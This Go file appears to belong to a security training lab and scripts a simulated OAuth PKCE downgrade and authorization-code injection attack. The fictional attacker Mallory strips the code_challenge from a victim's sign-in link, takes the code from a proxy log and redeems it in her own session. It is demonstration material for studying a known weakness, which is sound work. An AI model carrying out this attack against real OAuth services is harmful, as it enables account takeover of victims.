package codeinjection

import (
	"net/url"

	"quartet.example/demo/labs/lab"
)

// downgrade has a code issued that is bound to no challenge, and brings it to the client in a browser in
// which no sign-in was begun: there the client has no verifier that it could send.
func downgrade(s *lab.Scene) error {
	stolen, err := unbound(s)
	if err != nil {
		return err
	}
	s.Step("Mallory", "opens the address of the app with that code, in a browser in which she began no sign-in")
	own, err := url.Parse(s.Web.RedirectURI + "?state=any")
	if err != nil {
		return err
	}
	return useCode(s, own, stolen)
}

// DowngradeInSignIn is the same attack in a sign-in that the attacker has begun, so that the client sends a
// verifier. The server then has a verifier for a code without a challenge (RFC 9700 §4.8.2).
func DowngradeInSignIn(s *lab.Scene) error {
	stolen, err := unbound(s)
	if err != nil {
		return err
	}
	own, err := s.Attacker.SignInUntil(s.Client+"/login", s.Web.RedirectURI)
	if err != nil {
		return err
	}
	return useCode(s, own, stolen)
}

// unbound returns a response to the victim, whose code is bound to no challenge and no nonce.
func unbound(s *lab.Scene) (*url.URL, error) {
	s.Step("Mallory", "sends Alice a link to the authorization server that looks as if from the app, but has no code_challenge")
	link := s.Begin(s.Web, url.Values{"code_challenge": {""}, "code_challenge_method": {""}, "scope": {"notes:read notes:write"}}).URL
	s.Step("Alice", "follows the link while the app is restarted, so nobody redeems her code")
	stolen, err := s.Victim.SignInUntil(link, s.Web.RedirectURI)
	if err != nil {
		return nil, err
	}
	s.Step("Mallory", "reads the code in the log of the proxy in front of the app")
	return stolen, nil
}
